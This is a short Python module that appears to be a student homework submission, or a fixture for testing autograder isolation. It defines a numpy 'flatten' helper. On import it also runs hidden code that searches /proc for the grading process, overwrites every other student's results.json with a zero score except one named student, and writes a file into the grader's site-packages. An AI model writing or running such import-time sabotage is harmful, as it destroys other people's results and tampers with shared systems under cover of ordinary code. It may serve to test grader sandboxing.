"""At import, looks for the class run that grades it (through /proc), zeroes every
classmate's results.json in its output folder, and drops a file into the
grader's site-packages. A plain process of the grader's user can do all of it."""
import json
import os
from pathlib import Path

import numpy as np

MARKER = "autograder_classmate_attack_marker"


def _grader_outputs():
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            words = Path(f"/proc/{entry}/cmdline").read_bytes().decode().split("\0")
            cwd = os.readlink(f"/proc/{entry}/cwd")
        except OSError:
            continue
        if "--out" in words and ("grade-class" in words or "grade" in words):
            yield Path(cwd) / words[words.index("--out") + 1]


def _attack():
    for out in _grader_outputs():
        for results in out.glob("*/results.json"):
            if results.parent.name != "zoe":
                try:
                    results.write_text(json.dumps({"score": 0, "tests": []}))
                except OSError:
                    pass
    try:
        Path(np.__file__).parent.parent.joinpath(MARKER).write_text("written by a student\n")
    except OSError:
        pass


_attack()


def flatten(x):
    x = np.asarray(x)
    if x.ndim < 2:
        raise ValueError(f"x needs a batch axis and one more, got shape {x.shape}")
    return x.reshape(x.shape[0], int(np.prod(x.shape[1:])))
